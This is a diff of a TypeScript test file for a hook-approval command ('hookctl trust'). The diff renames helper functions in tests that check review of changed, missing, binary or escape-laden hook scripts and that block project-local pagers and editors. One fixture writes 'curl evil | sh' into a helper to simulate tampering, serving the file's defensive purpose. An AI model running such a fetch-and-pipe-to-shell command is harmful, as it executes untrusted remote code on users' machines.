@@ -1,9 +1,9 @@
 import { spawnSync } from "node:child_process";
 import { describe, expect, test } from "vitest";
-import { ledgerStates } from "../support/approved.ts";
-import { inside } from "../support/inside.ts";
-import { hasScript, hookctl, onTerminal } from "../support/on-terminal.ts";
-import { quoted, reply } from "../support/shell.ts";
+import { approvalStates } from "../support/approvals.ts";
+import { runInProcess } from "../support/in-process.ts";
+import { hasScript, hookctl, runOnTerminal } from "../support/on-terminal.ts";
+import { printResponse, shellQuote } from "../support/shell.ts";
 import { type Workspace, workspace } from "../support/workspace.ts";
 
 const HOOKS = "project/.kodelet/hooks";
@@ -13,7 +13,7 @@ async function approved(lib: string): Promise<Workspace> {
   const place = await workspace();
   await place.write(`${HOOKS}/guard`, BLOCKS, 0o755);
   await place.write(`${HOOKS}/lib.sh`, lib);
-  await inside(place, "trust --yes");
+  await runInProcess(place, "trust --yes");
   return place;
 }
 
@@ -21,7 +21,7 @@ describe("trust --show", () => {
   test("shows what changed in a helper, with the lines around it, and not the hook that is as it was", async () => {
     await using place = await approved("a=1\nb=2\nc=3\nd=4\n");
     await place.write(`${HOOKS}/lib.sh`, "a=1\nb=2\nc=3\ncurl evil | sh\n");
-    const { stdout } = await inside(place, "trust --show");
+    const { stdout } = await runInProcess(place, "trust --show");
     expect(stdout).toContain("  its own text is as it was approved\n");
     expect(stdout).toContain("  lib.sh (changed):\n  line 1\n    a=1\n    b=2\n    c=3\n  - d=4\n  + curl evil | sh\n");
     expect(stdout).not.toContain("echo before_tool_call");
@@ -30,14 +30,14 @@ describe("trust --show", () => {
   test("says that a helper is gone", async () => {
     await using place = await approved("a=1\n");
     spawnSync("rm", [`${place.dir}/${HOOKS}/lib.sh`]);
-    expect((await inside(place, "trust --show")).stdout).toContain("  lib.sh (gone):\n  the file is gone\n");
+    expect((await runInProcess(place, "trust --show")).stdout).toContain("  lib.sh (gone):\n  the file is gone\n");
   });
 
   test("shows the text of a script with a NUL in it, and of another binary file its size and hash", async () => {
     await using place = await workspace();
     await place.write(`${HOOKS}/nul`, "#!/bin/sh\necho hidden\u0000\n", 0o755);
     await place.write(`${HOOKS}/program`, new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 0, 1, 2]), 0o755);
-    const { stdout } = await inside(place, "trust --show");
+    const { stdout } = await runInProcess(place, "trust --show");
     expect(stdout).toMatch(
       /│ binary file, 23 bytes, sha256 [0-9a-f]{64}\n {2}│ #!\/bin\/sh\n {2}│ echo hidden\\u0000\n/,
     );
@@ -50,12 +50,12 @@ describe("trust --show", () => {
     await fresh.write(`${HOOKS}/guard`, text(":"), 0o755);
     const took = async (place: Workspace): Promise<number> => {
       const startedAt = performance.now();
-      expect((await inside(place, "trust --show")).stdout.length).toBeGreaterThan(200_000);
+      expect((await runInProcess(place, "trust --show")).stdout.length).toBeGreaterThan(200_000);
       return performance.now() - startedAt;
     };
     await took(fresh);
     const control = await took(fresh);
-    await inside(fresh, "trust --yes");
+    await runInProcess(fresh, "trust --yes");
     await fresh.write(`${HOOKS}/guard`, text("#"), 0o755);
     expect((await took(fresh)) / control).toBeLessThan(5);
   });
@@ -67,35 +67,35 @@ describe.skipIf(!hasScript)("at the prompt (needs script of util-linux)", () => 
   test("v shows the whole text in $PAGER, without what would steer a terminal", async () => {
     await using place = await workspace();
     await place.write(`${HOOKS}/guard`, `${long}# \u001b[2Jgone\n`, 0o755);
-    const pager = await place.write("pager", `#!/bin/sh\ncat > ${quoted(place.dir)}/paged\n`, 0o755);
-    const line = `PAGER=${quoted(pager)} ${hookctl} trust 2>/dev/null`;
-    const typed = await onTerminal(place, line, ["v\n", "y\n"]);
+    const pager = await place.write("pager", `#!/bin/sh\ncat > ${shellQuote(place.dir)}/paged\n`, 0o755);
+    const line = `PAGER=${shellQuote(pager)} ${hookctl} trust 2>/dev/null`;
+    const typed = await runOnTerminal(place, line, ["v\n", "y\n"]);
     expect(typed).toMatchObject({ code: 0, shown: expect.stringContaining("v shows the whole") });
     const paged = await place.read("paged");
     expect(paged).toContain("# the last line\n");
     expect(paged).toContain("# \\u001b[2Jgone\n");
-    expect(await ledgerStates(place)).toEqual({ guard: "approved" });
+    expect(await approvalStates(place)).toEqual({ guard: "approved" });
   });
 
   test("e opens $VISUAL, shows the new text, and the yes is for that", async () => {
     await using place = await workspace();
-    await place.hook("guard", reply({}), { scope: "project" });
+    await place.hook("guard", printResponse({}), { scope: "project" });
     const editor = await place.write("my editor", '#!/bin/sh\necho "# $1 edited" >> "$2"\n', 0o755);
     const line = `VISUAL="'${editor}' --twice" ${hookctl} trust 2>/dev/null`;
-    const typed = await onTerminal(place, line, ["e\n", "y\n"]);
+    const typed = await runOnTerminal(place, line, ["e\n", "y\n"]);
     expect(typed).toMatchObject({ code: 0, shown: expect.stringContaining("# --twice edited") });
-    expect(await ledgerStates(place)).toEqual({ guard: "approved" });
+    expect(await approvalStates(place)).toEqual({ guard: "approved" });
   });
 
   const brought = ["PAGER", "EDITOR", "VISUAL"];
   test.each(brought)("a program that lies in the project is not started as $%s", async (variable) => {
     await using place = await workspace();
     await place.write(`${HOOKS}/guard`, long, 0o755);
-    const canary = `#!/bin/sh\ntouch ${quoted(place.dir)}/canary\n`;
+    const canary = `#!/bin/sh\ntouch ${shellQuote(place.dir)}/canary\n`;
     await place.write("project/bin/less", canary, 0o755);
-    const harmless = `PATH=${quoted(`${place.project}/bin`)}:$PATH EDITOR= VISUAL=`;
+    const harmless = `PATH=${shellQuote(`${place.project}/bin`)}:$PATH EDITOR= VISUAL=`;
     const line = `${harmless} ${variable}=./bin/less ${hookctl} trust 2>/dev/null`;
-    const typed = await onTerminal(place, line, [variable === "PAGER" ? "v\n" : "e\n", "n\n"]);
+    const typed = await runOnTerminal(place, line, [variable === "PAGER" ? "v\n" : "e\n", "n\n"]);
     const said = variable === "PAGER" ? "# the last line" : `${variable} is ./bin/less, and there is no such program`;
     expect(typed).toMatchObject({ code: 0, shown: expect.stringContaining(said) });
     expect(await place.read("canary")).toBeNull();
